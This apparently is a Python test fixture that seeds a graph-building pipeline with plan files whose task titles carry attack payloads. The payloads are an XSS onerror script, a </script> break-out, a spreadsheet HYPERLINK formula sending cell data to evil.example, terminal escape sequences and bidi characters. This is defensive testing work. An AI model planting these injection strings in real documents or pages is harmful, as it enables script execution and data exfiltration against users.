"""Plan files carrying attack payloads (issue 13), built with the real pipeline.

The Suzhou seed with three task titles replaced: markup that runs script when a tooltip is HTML
(``<img onerror>`` plus ``href`` so pyvis would pick its innerHTML popup), a ``</script>`` break-out,
a spreadsheet formula, rich markup and terminal escape sequences; plus zero-width and bidi characters.
"""
from __future__ import annotations

import shutil
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
SEEDS = ROOT / "data" / "plans"

XSS = '<img src=x onerror="window.pgPwned=1;parent.pgPwned=1;alert(document.domain)"> href 加强反垄断执法'
BREAKOUT = "</script><script>window.pgPwned2=1;parent.pgPwned2=1</script>创新市场监管机制"
FORMULA = '=HYPERLINK("http://evil.example/?"&B2,"点击")建设市场监管所[/][link=http://evil.example]x[/link]'
TITLES = {
    "2.加强反垄断反不正当竞争执法。": f"2.{XSS}。",
    "1.创新市场监管机制。": f"1.{BREAKOUT}。",
    "1.建设“四型”市场监管所。": f"1.{FORMULA}\x1b[2J\x1b]8;;http://evil.example\x07\u202e。",
}
PAYLOAD_TITLES = (XSS, BREAKOUT, FORMULA)


def hostile_plans(dest: Path) -> Path:
    """Anhui (clean) and Suzhou (payload titles) under *dest*/plans."""
    plans = dest / "plans"
    plans.mkdir(parents=True, exist_ok=True)
    shutil.copy(SEEDS / "anhui-province.txt", plans / "anhui-province.txt")
    text = (SEEDS / "suzhou-city.txt").read_text(encoding="utf-8")
    for old, new in TITLES.items():
        assert old in text, old
        text = text.replace(old, new, 1)
    (plans / "suzhou-city.txt").write_text(text, encoding="utf-8")
    return plans


def build_hostile(dest: Path):
    """Build the hostile plans into an embedded store under *dest*; returns (store, report)."""
    from graph_builder.pipeline import build
    from graph_builder.store import EmbeddedStore

    store = EmbeddedStore(dest / "store")
    report = build([hostile_plans(dest)], store, decisions=dest / "review.csv")
    return store, report


def payload_nodes(graph) -> dict[str, str]:
    """Payload title → node id in the built graph."""
    out = {}
    for p in PAYLOAD_TITLES:
        hit = [n for n in graph.nodes.values() if n.label in ("Task", "Project") and p[:20] in (n.title or "")]
        assert hit, f"payload task extracted: {p}"
        out[p] = hit[0].id
    return out
